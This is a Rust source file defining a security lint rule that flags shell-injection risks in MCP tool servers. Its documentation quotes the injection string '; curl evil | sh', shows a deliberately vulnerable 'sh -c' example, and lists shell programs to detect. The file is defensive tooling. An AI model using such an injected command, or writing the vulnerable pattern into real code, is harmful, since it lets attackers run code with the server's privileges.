//! MCP409 shell-injection.

use crate::lint::diagnostic::{Diagnostic, Severity};
use crate::lint::rules::tools::{calls, literal};
use crate::lint::rules::{Family, RuleMeta, Status};
use crate::lint::source::{CrateContext, SourceFile};

pub static SHELL_INJECTION: RuleMeta = RuleMeta {
    code: "MCP409",
    name: "shell-injection",
    family: Family::Security,
    severity: Severity::Error,
    status: Status::Stable,
    autofix: None,
    limits: "",
    summary: "A shell started as a program (`sh`, `bash`, `cmd`, `powershell`, …), or a program whose name is not a literal.",
    why: "Passing model-supplied text through a shell turns every tool argument into a command line: `; curl evil | sh` runs with the server's privileges (OWASP MCP top 10: command injection).",
    example: "Command::new(\"sh\").arg(\"-c\").arg(format!(\"grep {} notes.txt\", p.query))",
    fix: "Run the program directly with arguments as separate `.arg(..)`s, no shell; for untrusted code use the platform's `CodeExecutor`.",
};

const SHELLS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "fish",
    "cmd",
    "cmd.exe",
    "powershell",
    "pwsh",
    "/bin/sh",
    "/bin/bash",
];

pub fn shell_injection(file: &SourceFile, _: &CrateContext, out: &mut Vec<Diagnostic>) {
    for call in calls(file).iter().filter(|c| {
        !c.method && (c.name == "Command::new" || c.name.ends_with("process::Command::new"))
    }) {
        match call.args.first().and_then(literal) {
            Some(program) if SHELLS.contains(&program.as_str()) => {
                out.push(file.diagnostic(
                    &SHELL_INJECTION,
                    call.span,
                    format!("`{program}` runs its arguments as a shell command line"),
                ));
            }
            None => out.push(file.diagnostic(
                &SHELL_INJECTION,
                call.span,
                "the program to run is not a literal: input may choose what runs",
            )),
            Some(_) => {}
        }
    }
}
